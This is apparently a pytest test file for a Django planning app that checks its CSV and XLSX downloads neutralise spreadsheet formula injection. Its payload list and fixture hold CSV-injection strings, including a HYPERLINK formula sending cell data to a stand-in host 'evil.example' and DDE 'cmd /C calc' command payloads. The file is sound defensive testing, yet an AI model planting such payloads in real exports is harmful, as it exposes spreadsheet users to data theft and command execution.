"""Every CSV and XLSX the system writes turns formula-like text into plain text (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from ipstrategy.web.foundation.cells import FORMULA_LEADS, cell_restored, cell_safe
from ipstrategy.web.plans.models import Plan

from ..factories import plan_create
from ..tracking.factories import report_make

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_plan(db: None) -> Plan:
    plan = plan_create(tasks=len(PAYLOADS))
    for task, payload in zip(plan.tasks.order_by("order"), PAYLOADS, strict=True):
        task.text = payload
        task.save(update_fields=["text"])
    plan.title = "=cmd|'/C calc'!A0"
    plan.save(update_fields=["title"])
    return plan


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _assert_inert(cells: list[Any], *, expected: int) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert not [c for c in texts if c[:1] in FORMULA_LEADS]
    assert sum(1 for c in texts if c[:1] == "'" and c[1:2] in FORMULA_LEADS) >= expected


@pytest.mark.parametrize(
    "url",
    ["/plans/{id}/tasks.csv", "/api/v1/plans/{id}/tasks?format=csv", "/api/v1/tasks?plan={id}&format=csv"],
)
def test_csv_downloads_neutralise_formulas(client: Client, hostile_plan: Plan, url: str) -> None:
    response = client.get(url.format(id=hostile_plan.pk))
    assert response.status_code == 200
    _assert_inert(_csv_cells(response.content), expected=len(PAYLOADS))


def _assert_xlsx_inert(cells: list[Any], *, expected: int) -> None:
    assert not [c for c in cells if c.data_type == "f"]
    quoted = [c for c in cells if isinstance(c.value, str) and c.value[:1] in FORMULA_LEADS]
    assert len(quoted) >= expected and all(c.data_type == "s" and c.quotePrefix for c in quoted)


def test_the_xlsx_download_neutralises_formulas(client: Client, hostile_plan: Plan) -> None:
    response = client.get(f"/plans/{hostile_plan.pk}/tasks.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    _assert_inert([c.value for c in cells], expected=len(PAYLOADS) + 1)


def test_the_progress_workbook_and_csv_neutralise_formulas(client: Client, people: Any, period: Any) -> None:
    from ipstrategy.web.tracking.services import report_update
    from ipstrategy.web.tracking.validation import ReportInput

    report = report_make(task=period.plan.tasks.first(), period=period, actor=people.cnipa)
    data = ReportInput(progress="in_progress", percent=5, narrative=PAYLOADS[1], problems=PAYLOADS[3])
    report_update(report=report, actor=people.cnipa, data=data)
    client.force_login(people.cnipa)
    response = client.get(f"/tracking/periods/{period.pk}/template.xlsx?agency=CNIPA")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    _assert_xlsx_inert([c for row in sheet.iter_rows() for c in row if c.value is not None], expected=2)
    client.force_login(people.office)
    audit = client.get("/tracking/audit.csv")
    _assert_inert(_csv_cells(audit.content), expected=0)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cell_safe_and_cell_restored_are_inverse(payload: str) -> None:
    assert cell_safe(payload)[0] == "'" and cell_restored(cell_safe(payload)) == payload
    assert cell_safe("plain text") == "plain text" == cell_restored("plain text")
    assert cell_safe(-5) == -5 and cell_restored("'plain") == "'plain"
